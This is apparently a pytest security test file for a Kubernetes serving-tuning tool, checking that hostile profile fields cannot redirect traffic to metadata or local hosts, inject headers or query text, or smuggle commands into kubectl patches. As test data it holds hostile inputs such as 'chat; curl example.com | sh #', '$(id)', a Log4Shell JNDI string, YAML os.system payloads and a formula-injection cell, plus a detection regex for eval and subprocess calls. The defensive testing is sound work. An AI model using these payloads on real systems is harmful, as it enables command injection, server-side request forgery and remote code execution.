"""What hostile content of resources cannot do. docs/threat-model.md says against whom each holds."""

from __future__ import annotations

import ast
import json
import re
import shlex
from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

import kneekeeper
from kneekeeper.api.model import Setting
from kneekeeper.api.rollout import ContainerWords
from kneekeeper.api.serving_profile import EndpointSpec, ServingProfileSpec, TargetRef
from kneekeeper.api.stage import Limits
from kneekeeper.api.stage import Target as StageTarget
from kneekeeper.domain.target import Target, TargetProblem, resolve, words_with
from kneekeeper.domain.targets.patches import patches_of
from kneekeeper.domain.workload import draw_workload
from kneekeeper.load.rendering import Renderer
from kneekeeper.observe.metrics import ServingPods
from kneekeeper.observe.prometheus import series
from kneekeeper.observe.workloads import parse_workload
from tests.unit.kube_objects import deployment, template
from tests.unit.plan.pods import pod_view
from tests.unit.plan.world import PROFILE_SPEC, START, World
from tests.unit.test_load_evidence import spec

SOURCES = Path(kneekeeper.__file__).parent
CLONE_ADDRESS = "10.244.0.9"
REF = TargetRef(kind="Deployment", name="chat")
SETTING = Setting(max_num_seqs=64, max_num_batched_tokens=4096)

ELSEWHERE = (
    *("localhost", "metadata.google.internal", "127.0.0.1.example.com", "0x7f000001", "2130706433", "10.0.0.1:80"),
    *("10.0.0.1/", "user@10.0.0.1", "[::1]", "10.0.0.1 ", "", "10.0.0.1\r\nhost: a", "１０.0.0.1"),
)


@pytest.mark.parametrize("host", ELSEWHERE)
def test_an_agent_takes_addresses_only_so_that_no_name_leads_elsewhere(host: str):
    with pytest.raises(ValidationError):
        StageTarget(host=host, port=80, model="m")


@pytest.mark.parametrize(
    "endpoint",
    [
        {"rootPath": "/@169.254.169.254/"},
        {"rootPath": "//example.com"},
        {"rootPath": "/../..?x=http://example.com#", "port": 1},
        {"model": "http://169.254.169.254/latest/meta-data\r\nhost: example.com"},
        {"scheme": "https", "serverName": "example.com"},
    ],
)
def test_whatever_a_profile_says_of_its_endpoint_the_load_goes_to_the_runs_own_clone(endpoint: dict[str, Any]):
    world = World(spec=PROFILE_SPEC | {"endpoint": endpoint})
    world.run_until(lambda world: bool(world.ordered))
    assert {stage.target.host for stage in world.ordered} == {CLONE_ADDRESS}


HEAD_LINES = ("POST ", "host: ", "accept: ", "content-type: ", "content-length: ")


@given(root_path=st.text(max_size=40), model=st.text(max_size=60))
def test_no_root_path_and_no_model_puts_a_line_of_its_own_into_a_request(root_path: str, model: str):
    try:
        target = StageTarget(host="10.0.0.1", port=80, root_path=root_path, model=model)
    except ValidationError:
        assert not re.fullmatch("[!-~]*", root_path)
        return
    stage = spec(target=target, limits=Limits(min_requests=1, max_requests=1, max_duration_s=1))
    head, _, body = next(Renderer(stage, draw_workload(stage), None).orders()).request.partition(b"\r\n\r\n")
    lines = head.decode("ascii").split("\r\n")
    assert [line.startswith(begin) for line, begin in zip(lines, HEAD_LINES, strict=True)] == [True] * len(lines)
    assert lines[0].count(" ") == 2
    assert orjson.loads(body)["model"] == model


@pytest.mark.parametrize("root_path", ["/a b", "/a\r\nhost: example.com", "/\x00", "/é"])
def test_a_root_path_that_no_url_has_is_refused_in_both_places(root_path: str):
    with pytest.raises(ValidationError):
        EndpointSpec.model_validate({"rootPath": root_path})
    made = template()
    made["spec"]["containers"][1]["args"] = ["m", f"--root-path={root_path}", "--max-num-seqs=8"]
    found = resolve(parse_workload(deployment(made)), REF)
    assert isinstance(found, TargetProblem)


QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"', re.DOTALL)


@given(namespace=st.text(), names=st.lists(st.text(min_size=1), min_size=1, max_size=3))
def test_no_name_ends_its_quotes_in_a_query(namespace: str, names: list[str]):
    pods = tuple(pod_view(name, ContainerWords(), START, "") for name in names)
    query = series("num_requests_running", ServingPods(namespace, pods, 8000))
    assert QUOTED.sub("Q", query) == "{__name__=~Q,namespace=Q,pod=~Q}"


WORDS = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), min_size=1, max_size=30)


@settings(max_examples=200)
@given(
    words=st.lists(WORDS | st.sampled_from(["$(id)", "';rm -rf /;'", "a: !!python/object:x", "- b\n", "--", "&a *a"]))
)
def test_no_argument_changes_more_than_the_two_limits_of_a_patch(words: list[str]):
    made = template()
    before = ["example/chat-8b", *words, "--max-num-seqs=256"]
    made["spec"]["containers"][1]["args"] = before
    view = parse_workload(deployment(made))
    target = resolve(view, REF)
    if not isinstance(target, Target):
        return  # what is not certain is not touched
    after = words_with(target.container, SETTING)
    if not isinstance(after, ContainerWords):
        return
    patches = patches_of(view, target.container, after, SETTING)
    *command, operations = shlex.split(patches.kubectl)
    assert command[:6] == ["kubectl", "-n", "prod", "patch", "deployment", "chat"]
    [test, change] = json.loads(operations)
    assert test["value"] == before
    assert {word for word in change["value"] if word not in before} <= {
        *("--max-num-seqs=64", "--max-num-batched-tokens=4096", "--max-num-batched-tokens", "4096", "64")
    }
    [entry] = yaml.safe_load(patches.kustomize)["patches"]
    assert yaml.safe_load(entry["patch"]) == [test, change]


def test_a_name_that_looks_like_a_command_is_a_word_of_the_patch():
    view = parse_workload(deployment())
    target = resolve(view, REF)
    assert isinstance(target, Target)
    after = words_with(target.container, SETTING)
    assert isinstance(after, ContainerWords)
    hostile = replace(view, name="chat; curl example.com | sh #", namespace="$(id)")
    words = shlex.split(patches_of(hostile, target.container, after, SETTING).kubectl)
    assert words[1:6] == ["-n", "$(id)", "patch", "deployment", "chat; curl example.com | sh #"]


def _calls(tree: ast.AST) -> set[str]:
    return {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}


STARTS_PROGRAMS = {"load/worker_process.py", "local/guard.py", "local/process.py"}
FORBIDDEN = re.compile(
    r"(eval|exec|compile|__import__|os\.(system|popen|exec\w+|spawn\w+)|subprocess\.\w+|pickle\.\w+|marshal\.\w+"
    r"|asyncio\.create_subprocess_(exec|shell)|yaml\.(unsafe_)?load(_all)?|yaml\.full_load(_all)?)"
)


def _unsafe(tree: ast.AST) -> set[str]:
    safe_yaml = {
        ast.unparse(node.func)
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and any("LOADER" in ast.unparse(k.value) for k in node.keywords)
    }
    return {call for call in _calls(tree) if FORBIDDEN.fullmatch(call)} - safe_yaml


def test_nothing_evaluates_text_and_only_the_local_run_and_the_load_workers_start_programs():
    found = {
        str(file.relative_to(SOURCES)): unsafe
        for file in SOURCES.rglob("*.py")
        if (unsafe := _unsafe(ast.parse(file.read_text())))
    }
    assert set(found) == STARTS_PROGRAMS, found
    assert all("shell" not in call for calls in found.values() for call in calls)


def _fields(schema: Any) -> set[str]:
    if isinstance(schema, list):
        return {field for each in schema for field in _fields(each)}
    if not isinstance(schema, dict):
        return set()
    own = set(schema.get("properties") or {})
    return own | {field for value in schema.values() for field in _fields(value)}


def test_no_field_of_a_profile_names_a_namespace_or_a_host():
    fields = {field.lower() for field in _fields(ServingProfileSpec.model_json_schema(by_alias=True))}
    assert not {field for field in fields if "namespace" in field or field in ("host", "address", "ip", "image")}


HOSTILE = (
    *(
        "x" * 300,
        "\u202e\u0000\ud7ff",
        "{{ .Values.x }}",
        "${jndi:ldap://example.com}",
        "<script>",
        "=cmd|' /C calc'!A0",
    ),
    *("NaN", "1e999", "~", "*a", "!!python/object/apply:os.system ['id']", "\r\n\r\n", "\U0001f9ca" * 50),
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "path",
    [
        ("endpoint", "model"),
        ("endpoint", "rootPath"),
        ("targetRef", "container"),
        ("slo", "p99TTFT"),
        ("probe", "window", "schedule"),
        ("probe", "window", "timeZone"),
        ("metrics", "matchLabels", "job"),
        ("workload", "prompts", "configMapRef", "name"),
    ],
    ids=".".join,
)
def test_hostile_text_in_a_profile_is_refused_or_decided_on(path: tuple[str, ...], text: str):
    spec: dict[str, Any] = deepcopy(PROFILE_SPEC) | {}
    spec.setdefault("probe", {})["window"] = {"schedule": "0 3 * * *", "duration": "2h"}
    node = spec
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = text
    try:
        ServingProfileSpec.model_validate(spec)
    except ValidationError:
        return
    world = World(spec=spec)
    for _ in range(3):
        world.tick()
    for run in world.runs.values():
        assert run.status.cause != "InternalError", run.status.message
